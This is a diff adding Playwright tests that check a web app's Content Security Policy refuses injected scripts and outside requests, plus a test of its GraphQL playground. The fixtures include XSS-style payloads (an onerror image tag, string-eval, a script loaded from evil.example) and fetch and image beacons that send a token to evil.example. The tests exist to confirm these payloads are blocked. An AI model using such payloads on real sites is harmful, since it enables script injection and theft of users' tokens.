@@ -1,0 +1,108 @@
+import type { Page } from '@playwright/test'
+import { expect, test } from './support/test.ts'
+
+test.describe('the page', () => {
+  test.use({ as: 'member' })
+
+  /** What the page reports of each attempt to run something that is not its own. */
+  const attempts: Record<string, { attempt: () => void; breach: string }> = {
+    'an inline script': {
+      attempt: () => {
+        const script = document.createElement('script')
+        script.append('document.title = "stolen"')
+        document.body.append(script)
+      },
+      breach: 'require-trusted-types-for',
+    },
+    'a script from elsewhere': {
+      attempt: () => {
+        const script = document.createElement('script')
+        script.src = 'https://evil.example/steal.js'
+        document.body.append(script)
+      },
+      breach: 'require-trusted-types-for',
+    },
+    'markup with a handler': {
+      attempt: () => {
+        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="document.title = \'stolen\'">')
+      },
+      breach: 'require-trusted-types-for',
+    },
+    'text as a program': {
+      attempt: () => {
+        // oxlint-disable-next-line typescript/no-implied-eval -- that it does not run is what is tested
+        setTimeout('document.title = "stolen"')
+      },
+      breach: 'require-trusted-types-for',
+    },
+    'a request to elsewhere': {
+      attempt: () => {
+        void fetch('https://evil.example/?token=x').catch(() => null)
+      },
+      breach: 'connect-src',
+    },
+    'a picture from elsewhere': {
+      attempt: () => {
+        new Image().src = 'https://evil.example/token.gif'
+      },
+      breach: 'img-src',
+    },
+  }
+
+  for (const [name, { attempt, breach }] of Object.entries(attempts))
+    test(`refuses ${name}`, async ({ page, faults }) => {
+      await page.goto('/explore')
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+      const reported = page.evaluate(
+        () =>
+          new Promise<string>((resolve) => {
+            document.addEventListener('securitypolicyviolation', (report) =>
+              resolve(report.effectiveDirective),
+            )
+          }),
+      )
+      // What throws has been refused too; the report says why.
+      await page.evaluate(attempt).catch(() => null)
+      expect(await reported).toContain(breach)
+      await expect(page).toHaveTitle('Explore · Plaza')
+      faults.length = 0
+    })
+
+  test('asks nobody but its own server, whatever screen is open', async ({ page, stage }) => {
+    const hosts = new Set<string>()
+    page.on('request', (request) => {
+      if (request.url().startsWith('http')) hosts.add(new URL(request.url()).origin)
+    })
+    for (const path of ['/home', '/explore', '/myevents']) {
+      await page.goto(path)
+      await expect(page.getByRole('heading', { level: 1 })).toBeAttached()
+    }
+    await page.goto('/explore')
+    await page.getByRole('button', { name: 'Show All', exact: true }).click()
+    await expect(page.getByText(/^Found \d+ Event\(s\)$/)).toBeVisible()
+    // The map's host hears of nobody who has not asked for a map.
+    expect([...hosts]).toEqual([stage.url])
+  })
+})
+
+test.describe('the playground', () => {
+  test.use({ permissions: ['clipboard-read', 'clipboard-write'] })
+
+  test('runs an operation with a header of its own, without any other host', async ({ page, person }) => {
+    await page.goto('/graphql')
+    await expect(page.getByText('Headers', { exact: true })).toBeVisible()
+    await write(page, 'Operation Editor', 'query { me { email } }')
+    await write(page, 'Headers', `{ "Authorization": "Bearer ${person.token}" }`)
+    await page.getByRole('button', { name: /Execute query/ }).click()
+    await expect(page.getByLabel('Result Window')).toContainText(person.email)
+  })
+})
+
+/** Replaces what an editor of the playground holds. */
+async function write(page: Page, name: string, text: string) {
+  await page.getByLabel(name, { exact: true }).first().click()
+  await page.keyboard.press('ControlOrMeta+A')
+  // Typed, the editor would add brackets.
+  await page.evaluate((copied) => navigator.clipboard.writeText(copied), text)
+  await page.keyboard.press('ControlOrMeta+V')
+}
